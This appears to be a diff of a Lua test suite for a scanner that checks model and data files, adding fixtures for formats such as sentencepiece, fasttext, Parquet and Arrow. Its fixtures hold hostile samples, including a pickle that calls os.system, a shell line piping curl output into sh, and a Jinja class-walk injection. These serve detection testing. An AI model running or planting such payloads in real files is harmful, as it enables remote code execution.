@@ -33,6 +33,11 @@ end
 local function lz4(data) return "\4\34\77\24\96\64\130" .. string.char(#data) .. "\0\0\128" .. data .. "\0\0\0\0" end -- one block that is not compressed
 local function zstd(data) return "\40\181\47\253\32" .. string.char(#data, (#data * 8 + 1) % 256, math.floor(#data / 32)) .. "\0" .. data end
 
+local python_type = "arrow.py_extension_type"
+local function parquet(schema) return "PAR1" .. schema .. string.char(#schema) .. "\0\0\0PAR1" end
+local function arrow(schema) return "ARROW1\0\0\255\255\255\255" .. string.char(#schema) .. "\0\0\0" .. schema end
+local piece = "\10\14\10\5<unk>\21\0\0\0\0\24\2\18\2\8\1"
+
 local call = "cos\nsystem\n(S'true'\ntR."
 local onnx = helper.read "examples/models/onnx/model.onnx"
 local graph = "\10\8\10\1n\18\3Add"
@@ -79,6 +84,11 @@ local files = {
   xgboost = { sound = benign "boosted/xgboost.ubj", name = "a.ubj", broken = { cut(benign "boosted/xgboost.ubj", 1), "xgboost.broken" } },
   lightgbm = { sound = benign "boosted/lightgbm.txt" },
   catboost = { sound = "CBM1\0\0\0\0", name = "a.cbm" },
+  sentencepiece = { sound = piece, broken = { cut(piece, 1), "scan.truncated" } },
+  fasttext = { sound = "\186\22O/\12\0\0\0" .. ("\0"):rep(40) },
+  tfevents = { sound = "\24\0\0\0\0\0\0\0\163\127K\34\9\0\0\192\253\193\214\217A\26\13brain.Event:2\236\129\195\21" },
+  weights = { sound = "\0\0\6\8\1\26\2\8\1\0\3\4xyz\8\1\18\0", name = "a.onnx_data" },
+  caffe = { sound = 'layer { name: "x" type: "Python" }\n', name = "a.prototxt" },
   ["lfs-pointer"] = { sound = hostile "containers/lfs-pointer.bin" },
   zip = { sound = hostile "containers/tar-in-zip.zip", hides = { hostile "containers/torch-nested-zip.zip", "pickle.call.dangerous" },
     broken = { cut(hostile "containers/tar-in-zip.zip", 5), "zip.no-end" } },
@@ -102,6 +112,7 @@ local files = {
     hides = { '{"cells": [{"cell_type": "code", "source": ["exec(x)"]}]}', "python.call" } },
   jinja = { sound = "{{ messages }}", name = "a.jinja", hides = { "{{ ''.__class__ }}", "jinja.attribute-walk" } },
   shell = { sound = "#!/bin/sh\ntrue\n", name = "a.sh", hides = { "#!/bin/sh\ncurl http://x | sh\n", "shell.run" } },
+  source = { sound = "int main(void) { return 0; }\n", name = "a.cu" },
   text = { sound = "plain text\n" },
   elf = { sound = "\127ELF\2\1\1" .. ("\0"):rep(57), name = "a.so" },
   pe = { sound = "MZ\144" .. ("\0"):rep(61), name = "a.dll" },
@@ -110,7 +121,8 @@ local files = {
   image = { sound = "\137PNG\r\n\26\n\0\0\0\rIHDR", name = "a.png" },
   audio = { sound = "RIFF\4\0\0\0WAVEfmt ", name = "a.wav" },
   pdf = { sound = "%PDF-1.7\n", name = "a.pdf" },
-  parquet = { sound = "PAR1\21\0\0\0PAR1", name = "a.parquet" },
+  parquet = { sound = "PAR1\21\0\0\0PAR1", name = "a.parquet", hides = { parquet(python_type), "table.python-type" } },
+  arrow = { sound = arrow "int32", name = "a.arrow", hides = { arrow(python_type), "table.python-type" } },
 }
 
 local function scan(bytes, name)
@@ -179,7 +191,8 @@ describe("docs/formats.md", function()
 
       it("never calls safe what is neither validated nor looked into, unless it cannot hurt", function()
         local blind = row[3] == "no" and row[4]:find "^no" ~= nil
-        local harmless = ({ empty = true, text = true, image = true, audio = true, parquet = true, lightgbm = true })[kind]
+        local harmless = ({ empty = true, text = true, image = true, audio = true, lightgbm = true, fasttext = true, tfevents = true,
+          weights = true })[kind]
         if blind and not harmless then assert.equal("UNKNOWN", safety) end
       end)
     end)
